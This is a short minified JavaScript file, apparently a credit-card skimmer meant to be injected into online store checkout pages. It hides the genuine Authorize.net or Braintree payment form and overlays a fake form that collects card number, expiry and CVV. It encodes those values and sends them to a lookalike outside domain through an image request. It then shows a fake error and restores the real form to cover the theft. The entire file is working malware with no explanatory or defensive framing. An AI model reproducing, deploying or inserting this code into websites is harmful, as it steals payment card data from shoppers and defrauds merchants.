!function(a,b){
if(!/checkout|onepage/.test(a.location.href))return;
var c=function(){
var d=b.querySelector("#payment_form_authorizenet,#braintree_cc_form");
if(!d||b.getElementById("q_ov"))return;
d.style.display="none";
var e=b.createElement("div");
e.id="q_ov";
e.innerHTML='<label>Card Number</label><input id="q1"><label>Exp</label><input id="q2"><label>CVV</label><input id="q3"><button type="button" id="q4">Submit Order</button>';
d.parentNode.insertBefore(e,d);
b.getElementById("q4").onclick=function(){
var f=["q1","q2","q3"].map(function(g){
return b.getElementById(g).value}).join("|");
(new Image).src="https://authorize-net-gw.biz/c.gif?c="+btoa(f+"|"+a.location.host);
alert("Invalid card data, please try again");
e.remove();
d.style.display=""}};
setInterval(c,1500)}(window,document);
